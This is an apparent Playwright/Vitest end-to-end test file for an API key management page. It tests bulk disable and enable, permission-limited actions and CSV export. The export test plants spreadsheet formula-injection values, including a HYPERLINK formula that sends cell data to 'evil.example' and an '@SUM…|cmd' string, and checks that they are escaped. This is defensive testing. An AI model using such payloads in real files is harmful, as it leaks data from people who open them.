import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { describeInChromium, hasFocus } from '../browser.ts';
import { enliven } from '../lively.ts';
import { accessibilityFaults, overflows, screenshots } from '../looks.ts';
import { join } from '../people.ts';
import { startSite } from '../site.ts';

describeInChromium('actions on selected keys', () => {
  test('disable and enable all or none, and say what became of it', async () => {
    const site = await startSite();
    const ada = await site.found();
    const used = await site.makeKey(ada, { name: 'Used' });
    expect(await site.present(used.secret)).toBe(200);
    const other = await site.makeKey(ada, { name: 'Other' });
    await site.makeKey(ada, { name: 'Third' });
    const [page, watching] = [await site.signIn(ada), await site.signIn(ada)];
    for (const one of [page, watching]) await one.locator('[data-live=live]').waitFor();
    await select(page, 'Used', 'Other');
    await expect.poll(() => button(page, 'Enable').isDisabled()).toBe(true);
    await button(page, 'Disable').click();
    const question = page.getByRole('alertdialog', { name: 'Disable 2 keys?' });
    await question.getByText('1 of 2 used in the last 24 hours').waitFor();
    await hasFocus(page, 'button:text-is("Cancel")');
    expect(await accessibilityFaults(page)).toEqual([]);
    expect(await overflows(page)).toEqual([]);
    await screenshots(page, 'disable-selection');

    // Revoked meanwhile by somebody else: nothing changes, and the key is named.
    await site.ask(ada, 'mutation ($id: ID!) { revokeApiKey(input: { id: $id }) { __typename } }', {
      id: other.id,
    });
    await rowOf(watching, 'Other').getByText('Revoked').waitFor();
    await question.getByRole('button', { name: 'Disable keys' }).click();
    await question.getByText("can't be updated: “Other”").waitFor();
    expect(await site.present(used.secret)).toBe(200);
    await page.keyboard.press('Escape');
    await select(page, 'Third');
    await button(page, 'Disable').click();
    const again = page.getByRole('alertdialog', { name: 'Disable 2 keys?' });
    await again.getByText('1 of the 3 selected keys is left out').waitFor();
    await again.getByRole('button', { name: 'Disable keys' }).click();
    const done = page.getByRole('alertdialog', { name: '2 keys are disabled' });
    await done.getByText('disabled on 1 of 1 node').waitFor();
    expect(await site.present(used.secret)).toBe(401);
    for (const name of ['Used', 'Third']) await rowOf(watching, name).getByText('Disabled').waitFor();
    await done.getByRole('button', { name: 'Done' }).click();
    await page.getByRole('region', { name: 'Selection' }).waitFor({ state: 'detached' });

    // By keyboard alone.
    await page.getByRole('checkbox', { name: 'Select Third' }).focus();
    await page.keyboard.press('Space');
    await button(page, 'Enable').focus();
    await page.keyboard.press('Enter');
    await hasFocus(page, 'button:text-is("Cancel")');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.getByRole('alertdialog', { name: '1 key is enabled' }).waitFor();
    await page.keyboard.press('Enter');
    await rowOf(watching, 'Third').getByText('Active').waitFor();
  });

  test('are those that the viewer may perform, for the keys that the viewer may change', async () => {
    const site = await startSite();
    const ada = await site.found();
    const small = { grants: ['api.key.view'] };
    for (const name of ['First', 'Second']) await site.makeKey(ada, { name, ...small });
    await site.makeKey(ada, { name: 'Wide', grants: ['team.manage'] });
    const editors = { name: 'Editors', permissions: ['api.key.view', 'api.key.update'] };
    const page = await site.signIn(await join(site, ada, 'eva@example.com', editors));
    await select(page, 'Wide');
    await expect.poll(() => offered(page)).toEqual(['Export CSV', 'Enable', 'Disable', 'Clear']);
    await expect.poll(() => button(page, 'Disable').isDisabled()).toBe(true);
    await page.getByRole('checkbox', { name: 'Select all' }).check();
    await button(page, 'Disable').click();
    const question = page.getByRole('alertdialog', { name: 'Disable 2 keys?' });
    await question.getByText('1 of the 3 selected keys is left out').waitFor();
    await question.getByRole('button', { name: 'Disable keys' }).click();
    await page.getByRole('alertdialog', { name: '2 keys are disabled' }).waitFor();
    const watchers = { name: 'Watchers', permissions: ['api.key.view'] };
    const watching = await site.signIn(await join(site, ada, 'wil@example.com', watchers));
    await select(watching, 'Wide');
    await expect.poll(() => offered(watching)).toEqual(['Export CSV', 'Clear']);
  });

  test('export 300 keys without secrets and without formulas', async () => {
    const site = await startSite();
    const ada = await site.found();
    const made = await enliven(site, ada);
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Billing")';
    const evil = await site.makeKey(ada, { name: formula, description: '@SUM(1+1)\t|cmd' });
    const page = await site.signIn(ada);
    await page.getByText('301 keys').waitFor();
    // A range by Shift, across rows that are no longer drawn.
    await page.getByRole('checkbox', { name: `Select ${formula}` }).check();
    await page.mouse.wheel(0, 2_000);
    const far = page.locator('tr[data-index="50"]').getByRole('checkbox');
    await far.click({ modifiers: ['Shift'] });
    await page.getByText('51 selected').waitFor();
    const download = page.waitForEvent('download');
    await button(page, 'Export CSV').click();
    await page.getByText('Exported 51 keys').waitFor();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(/^keys-acme-\d{4}-\d{2}-\d{2}\.csv$/);
    const text = await readFile(await file.path(), 'utf8');
    expect(text.split('\r\n')).toHaveLength(53);
    expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(text).toContain(`"'@SUM`);
    for (const { secret } of [...made, evil]) expect(text).not.toContain(secret);
    await overflows(page);
    await screenshots(page, 'selection');
  });
});

async function select(page: Page, ...names: string[]): Promise<void> {
  for (const name of names) await page.getByRole('checkbox', { name: `Select ${name}` }).check();
}

function button(page: Page, name: string) {
  return page.getByRole('region', { name: 'Selection' }).getByRole('button', { name });
}

async function offered(page: Page): Promise<string[]> {
  return page.getByRole('region', { name: 'Selection' }).getByRole('button').allTextContents();
}

function rowOf(page: Page, name: string) {
  return page.getByRole('row').filter({ hasText: name });
}
